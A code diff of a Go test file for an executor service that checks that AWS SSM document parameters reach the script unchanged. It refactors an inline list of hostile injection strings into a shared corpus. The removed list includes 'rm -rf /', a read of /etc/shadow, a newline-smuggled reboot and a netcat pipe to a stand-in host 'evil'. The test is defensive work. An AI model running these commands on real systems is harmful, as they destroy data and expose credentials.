@@ -1,13 +1,16 @@
 package awsstep_test
 
 import (
+	"fmt"
 	"strings"
 	"sync"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/amsproject/ams/services/executor/internal/injection"
 	"github.com/amsproject/ams/services/executor/internal/step"
 	"github.com/amsproject/ams/services/executor/sandbox/awsfake"
 )
@@ -63,21 +66,26 @@ func TestSSMResult(t *testing.T) {
 	}
 }
 
-// TestSSMParametersArriveUnchanged sends values an attacker could put in
-// an alert and checks the document's script sees each one byte for byte,
-// as one whole parameter value.
+// TestSSMParametersArriveUnchanged sends the injection corpus as document
+// parameters, several values to a command, and checks the document's
+// script sees each one byte for byte, as one whole parameter value of its
+// own.
 func TestSSMParametersArriveUnchanged(t *testing.T) {
+	const batch = 8
 	e := newEnv(t)
 	var mu sync.Mutex
 	var seen []map[string]string
+	params := []awsfake.DocumentParameter{
+		{Name: "mode", AllowedPattern: `^(check|fix)$`, Optional: true, Default: "check"},
+	}
+	for i := range batch {
+		// The widest pattern: this test is about transport, not about
+		// the runbook's own patterns.
+		params = append(params, awsfake.DocumentParameter{Name: fmt.Sprintf("path%d", i), AllowedPattern: `^[\s\S]*$`, Optional: true})
+	}
 	e.addDocument(t, awsfake.Document{
-		Name: "AMS-CheckPath",
-		Parameters: []awsfake.DocumentParameter{
-			// The widest pattern: this test is about transport, not about
-			// the runbook's own patterns.
-			{Name: "path", AllowedPattern: `^[\s\S]*$`},
-			{Name: "mode", AllowedPattern: `^(check|fix)$`, Optional: true, Default: "check"},
-		},
+		Name:       "AMS-CheckPath",
+		Parameters: params,
 		Run: func(env map[string]string) (string, string, int) {
 			mu.Lock()
 			defer mu.Unlock()
@@ -85,42 +93,43 @@ func TestSSMParametersArriveUnchanged(t *testing.T) {
 			return "", "", 0
 		},
 	})
-	hostile := map[string]string{
-		"shell separator":   "/var/log; rm -rf /",
-		"command subst":     "$(id)",
-		"backticks":         "`cat /etc/shadow`",
-		"newlines":          "/tmp\nreboot\n",
-		"crlf and tab":      "a\r\nb\tc",
-		"quotes":            `"'"'; echo "pwned`,
-		"option":            "--no-preserve-root",
-		"glob":              "*",
-		"variable":          "${SSM_path}$HOME",
-		"pipes and redir":   "x | nc evil 1 > /etc/passwd",
-		"unicode":           "日本語 ✓ \u202e",
-		"nul byte":          "a\x00b",
-		"backslashes":       `C:\Windows\System32\ \"`,
-		"10 KB":             strings.Repeat("A;$(x)`\n", 1280),
-		"json-like":         `{"__type":"x","Parameters":{"path":["/"]}}`,
-		"leading dash only": "-",
+	// JSON carries text: a value that is not UTF-8 cannot cross it
+	// unchanged, and the runbook refuses such a value before any step
+	// (runbook.Parameters), so it never reaches SSM.
+	var vals []string
+	for _, v := range injection.Corpus() {
+		if utf8.ValidString(v) {
+			vals = append(vals, v)
+		}
 	}
-	for name, value := range hostile {
-		t.Run(name, func(t *testing.T) {
-			mu.Lock()
-			before := len(seen)
-			mu.Unlock()
-			res, err := e.runner.SSM(ctx(t), "acme", e.acme, acmeWeb, "AMS-CheckPath", map[string]string{"path": value}, 10*time.Second)
-			require.NoError(t, err)
-			require.True(t, res.OK, res.Output)
+	require.GreaterOrEqual(t, len(vals), 300)
+	for i := 0; i < len(vals); i += batch {
+		chunk := vals[i:min(i+batch, len(vals))]
+		sent := map[string]string{}
+		for j, v := range chunk {
+			sent[fmt.Sprintf("path%d", j)] = v
+		}
+		mu.Lock()
+		before := len(seen)
+		mu.Unlock()
+		res, err := e.runner.SSM(ctx(t), "acme", e.acme, acmeWeb, "AMS-CheckPath", sent, 10*time.Second)
+		require.NoError(t, err, "values %q", chunk)
+		require.True(t, res.OK, res.Output)
 
-			mu.Lock()
-			env := seen[before]
-			mu.Unlock()
-			require.Equal(t, value, env["SSM_path"], "the script sees the value unchanged")
-			require.Equal(t, "check", env["SSM_mode"], "an omitted optional parameter takes its default")
-			cmds := e.fake.Commands()
-			require.Equal(t, []string{value}, cmds[len(cmds)-1].Parameters["path"], "one whole value on the wire, never split or joined")
-		})
+		mu.Lock()
+		require.Len(t, seen, before+1, "one command ran the script once")
+		env := seen[before]
+		mu.Unlock()
+		cmds := e.fake.Commands()
+		last := cmds[len(cmds)-1]
+		for name, value := range sent {
+			require.Equal(t, value, env["SSM_"+name], "the script sees the value unchanged")
+			require.Equal(t, []string{value}, last.Parameters[name], "one whole value on the wire, never split or joined")
+		}
+		require.Equal(t, "check", env["SSM_mode"], "an omitted optional parameter takes its default")
+		require.Len(t, last.Parameters, len(sent), "no parameter added")
 	}
+	require.Len(t, e.fake.Commands(), (len(vals)+batch-1)/batch)
 }
 
 func TestSSMPollsUntilDone(t *testing.T) {
